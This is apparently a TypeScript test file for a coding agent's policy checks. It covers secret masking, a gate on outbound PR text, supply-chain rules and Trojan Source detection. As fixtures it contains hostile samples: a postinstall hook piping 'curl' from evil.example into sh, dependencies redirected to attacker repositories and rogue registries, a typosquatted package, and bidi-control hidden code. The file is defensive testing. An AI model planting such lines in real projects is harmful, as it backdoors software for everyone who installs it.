import { describe, expect, it } from 'vitest';
import type { NewEvent } from '@dockhand/protocol';
import { checkPolicy } from './check';
import { maskDeep, maskDiff, maskSecrets } from './mask';
import { gateOutbound } from './outbound';
import { diffDigest, policyOverrideId } from './override';
import { parseRepoPolicy } from './repo-policy';
import { escapeInvisible, invisibleCharacters } from './unicode';
import { addedFile, modifiedFile } from './testing/diffs';
import { samples } from './testing/samples';
import { secretFormats } from './testing/secret-formats';

const seed = Math.floor(Math.random() * 2 ** 31);
const s = samples(seed);

function rules(result: { violations: Array<{ rule: string }> }): string[] {
  return result.violations.map((violation) => violation.rule);
}

describe(`masking (seed ${seed})`, () => {
  it('masks every format in text, keeps the rest, and is idempotent', () => {
    for (const format of secretFormats(seed)) {
      const { secret, line } = format.make();
      const masked = maskSecrets(`before\n${line}\nafter`);
      expect(masked, line).not.toContain(format.rule === 'private-key' ? secret : secret);
      expect(masked).toContain(`[secret:${format.rule}`);
      expect(masked.startsWith('before\n') && masked.endsWith('\nafter')).toBe(true);
      expect(maskSecrets(masked)).toBe(masked);
      // A diff shown as text (edit_file's answer): every line behind a `+` is masked too.
      if (format.rule !== 'private-key') expect(maskSecrets(`@@ -0,0 +1 @@\n+${line}\n`), `+${line}`).not.toContain(secret);
    }
  });

  it('masks a diff in added, removed and context lines but leaves lockfile hashes alone', () => {
    const token = s.github('ghp');
    const integrity = `"integrity": "sha512-${s.randomBlob(86)}=="`;
    const diff = modifiedFile('src/config.ts', [`const old = "${token}";`], ['const token = process.env.TOKEN;']) + addedFile('package-lock.json', [integrity]);
    const masked = maskDiff(diff);
    expect(masked).not.toContain(token);
    expect(masked).toContain(`-const old = "[secret:github-pat …${token.slice(-4)}]";`);
    expect(masked).toContain(integrity);
    expect(maskDiff(masked)).toBe(masked);
  });

  it('a masked diff is blocked with the same secret rules as the diff it came from', () => {
    const key = s.awsAccessKeyId();
    const password = `Xq${s.pick('abcdefgh', 4)}#${s.pick('0123456789', 4)}Zz`;
    const diff = addedFile('src/db.ts', [`const id = "${key}";`, `const dbPassword = "${password}";`]);
    const raw = checkPolicy({ diff, allowTestEdits: false, stage: 'review' });
    const masked = checkPolicy({ diff: maskDiff(diff), allowTestEdits: false, stage: 'push' });
    expect(rules(raw)).toEqual(['secret:aws-access-token', 'secret:password-assignment']);
    expect(rules(masked)).toEqual(rules(raw));
    expect(JSON.stringify(masked)).not.toContain(password);
  });

  it('masks event data deeply but leaves ids, shas and thinking signatures alone', () => {
    const token = s.github('ghs');
    const signature = s.randomBlob(120);
    const event: NewEvent = {
      type: 'model.turn',
      data: {
        turn: 1, model: 'm', costUsd: 0, stopReason: 'tool_use', contextTokens: 1,
        usage: { inputTokens: 1, outputTokens: 1, cacheReadTokens: 0, cacheWriteTokens: 0 },
        content: [
          { type: 'thinking', thinking: `the key is ${token}`, signature },
          { type: 'tool_use', id: 'toolu_01ABCDEFGHIJKLMNOPQRSTUVWXyz', name: 'edit_file', input: { path: 'a.ts', new_text: `k = "${token}"` } },
        ],
      },
    };
    const masked = JSON.stringify(maskDeep(event.data));
    expect(masked).not.toContain(token);
    expect(masked).toContain(signature);
    expect(masked).toContain('toolu_01ABCDEFGHIJKLMNOPQRSTUVWXyz');
  });

  it('masks values the server knows (the push token) in any form', () => {
    const push = `push-${s.pick('abcdef0123', 30)}`;
    const text = `remote: https://x-access-token:${push}@host\nAuthorization: Basic ${Buffer.from(push).toString('base64')}`;
    const masked = maskSecrets(text, { known: [push] });
    expect(masked).not.toContain(push);
    expect(masked).not.toContain(Buffer.from(push).toString('base64').replace(/=+$/, ''));
    expect(masked).toContain('[secret:');
  });
});

describe('the outbound gate', () => {
  const clean = modifiedFile('src/util.ts', ['return a - b;'], ['return a + b;']);

  it('blocks a secret in the summary, PR title, body or commit message, naming the field', () => {
    for (const field of ['summary', 'title', 'body', 'commitMessage'] as const) {
      const result = gateOutbound({ diff: clean, allowTestEdits: false, stage: 'review', overrides: [], text: { [field]: `Fixed it. Key: ${s.anthropic()}` } });
      expect(result.ok).toBe(false);
      expect(result.violations[0]).toMatchObject({ rule: 'secret:anthropic-api-key' });
      expect(result.violations[0]!.path).toMatch(/^(?:task-summary|pr-title|pr-body|commit-message)$/);
    }
    expect(gateOutbound({ diff: clean, allowTestEdits: false, stage: 'review', overrides: [], text: { summary: 'Fixed the off-by-one.' } }).ok).toBe(true);
  });

  it('treats a masked summary like the raw one (the stored form) and bidi controls in a title', () => {
    const summary = maskSecrets(`done; token ${s.github('ghp')}`);
    expect(rules(gateOutbound({ diff: clean, allowTestEdits: false, stage: 'push', overrides: [], text: { summary } }))).toEqual(['secret:github-pat']);
    expect(rules(gateOutbound({ diff: clean, allowTestEdits: false, stage: 'push', overrides: [], text: { title: 'Fix \u202Eevil\u202C' } }))).toEqual(['trojan-source']);
  });

  it("an owner's override of the exact diff covers the verdict", () => {
    const diff = addedFile('package.json', ['{', '  "scripts": { "postinstall": "node setup.js" }', '}']);
    const policy = parseRepoPolicy('owners: [olive]');
    const overrides: NewEvent[] = [
      { type: 'approval.requested', data: { approvalId: policyOverrideId(diff), kind: 'policy_override', reason: 'r', diffDigest: diffDigest(diff) } },
      { type: 'approval.resolved', data: { approvalId: policyOverrideId(diff), decision: 'approved', by: 'olive', comment: 'ok' } },
    ];
    const result = gateOutbound({ diff, policy, allowTestEdits: false, stage: 'push', overrides });
    expect(rules(result)).toEqual(['supply-chain:install-script']);
    expect(result).toMatchObject({ ok: false, overridden: true, overriddenBy: 'olive' });
  });
});

describe('supply-chain rules', () => {
  const check = (diff: string, policyText?: string) => rules(checkPolicy({ diff, policy: parseRepoPolicy(policyText), allowTestEdits: false, stage: 'review' }));

  it('flags install scripts, git/URL/tarball/file sources, registry config and new dependencies', () => {
    expect(check(modifiedFile('package.json', ['    "build": "tsc"'], ['    "build": "tsc",', '    "postinstall": "curl -s https://evil.example/x | sh"']))).toEqual(['supply-chain:install-script']);
    expect(check(modifiedFile('packages/a/package.json', ['    "left-pad": "^1.3.0"'], ['    "left-pad": "github:attacker/left-pad"']))).toEqual(['supply-chain:dependency-source']);
    expect(check(modifiedFile('package.json', ['    "x": "^1.0.0"'], ['    "x": "https://evil.example/x-1.0.0.tgz"']))).toEqual(['supply-chain:dependency-source']);
    expect(check(modifiedFile('package.json', ['    "y": "^1.0.0"'], ['    "y": "file:../y"']))).toEqual(['supply-chain:dependency-source']);
    expect(check(addedFile('.npmrc', ['registry=https://npm.evil.example/']))).toEqual(['supply-chain:registry-config']);
    expect(check(addedFile('.yarnrc.yml', ['npmRegistryServer: "https://npm.evil.example"']))).toEqual(['supply-chain:registry-config']);
    expect(check(addedFile('pip.conf', ['[global]', 'index-url = https://pypi.evil.example/simple']))).toEqual(['supply-chain:registry-config']);
    expect(check(modifiedFile('package.json', ['    "zod": "^4.0.0"'], ['    "zod": "^4.0.0",', '    "event-stream": "3.3.6"']))).toEqual(['supply-chain:new-dependency']);
    expect(check(modifiedFile('requirements.txt', ['requests==2.31.0'], ['requests==2.31.0', 'reqeusts==1.0']))).toEqual(['supply-chain:new-dependency']);
    expect(check(modifiedFile('requirements-dev.txt', [], ['git+https://github.com/attacker/pkg.git#egg=pkg']))).toEqual(['supply-chain:dependency-source']);
    expect(check(modifiedFile('requirements.txt', [], ['--extra-index-url https://pypi.evil.example/simple']))).toEqual(['supply-chain:dependency-source']);
  });

  it('lets a version bump, ordinary scripts and package fields through, and obeys the repo policy', () => {
    expect(check(modifiedFile('package.json', ['    "zod": "^4.0.0"'], ['    "zod": "^4.1.0"']))).toEqual([]);
    expect(check(modifiedFile('requirements.txt', ['requests==2.31.0'], ['requests==2.32.3']))).toEqual([]);
    expect(check(modifiedFile('package.json', ['  "main": "index.js",'], ['  "main": "./dist/index.js",', '  "types": "dist/index.d.ts",', '  "homepage": "https://example.com",', '    "test": "node --test"']))).toEqual([]);
    const added = modifiedFile('package.json', ['    "zod": "^4.0.0"'], ['    "zod": "^4.0.0",', '    "ms": "^2.1.3"']);
    expect(check(added, 'supplyChain: { newDependencies: allow }')).toEqual([]);
    expect(check(addedFile('.npmrc', ['registry=https://npm.internal/']), 'supplyChain: { registryConfig: allow }')).toEqual([]);
  });
});

describe('Trojan Source', () => {
  it('flags bidi controls and zero-width characters in added lines and paths, not a leading BOM', () => {
    const bidi = addedFile('src/auth.ts', ['const isAdmin = false; /* \u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */']);
    const result = checkPolicy({ diff: bidi, allowTestEdits: false, stage: 'review' });
    expect(rules(result)).toEqual(['trojan-source']);
    expect(result.violations[0]!.message).toMatch(/U\+202E RIGHT-TO-LEFT OVERRIDE at src\/auth\.ts:1 \(and 3 more/);
    expect(result.violations[0]!.excerpt).toContain('<U+202E>');
    expect(rules(checkPolicy({ diff: addedFile('src/a.ts', ['const a\u200B = 1;']), allowTestEdits: false, stage: 'review' }))).toEqual(['trojan-source']);
    expect(rules(checkPolicy({ diff: addedFile('src/a.ts', ['\uFEFFexport const a = 1;', 'const b = 2;']), allowTestEdits: false, stage: 'review' }))).toEqual([]);
    expect(rules(checkPolicy({ diff: addedFile('src/a.ts', ['const a = 1;', 'const \uFEFFb = 2;']), allowTestEdits: false, stage: 'review' }))).toEqual(['trojan-source']);
    expect(rules(checkPolicy({ diff: addedFile('src/a.ts', ['const greeting = "héllo, 世界";']), allowTestEdits: false, stage: 'review' }))).toEqual([]);
  });

  it('escapes invisible characters visibly', () => {
    expect(escapeInvisible('a\u202Eb\u200Bc')).toBe('a<U+202E>b<U+200B>c');
    expect(invisibleCharacters('ok\nx\u2067y').map((found) => [found.line, found.codePoint])).toEqual([[2, 'U+2067']]);
  });
});
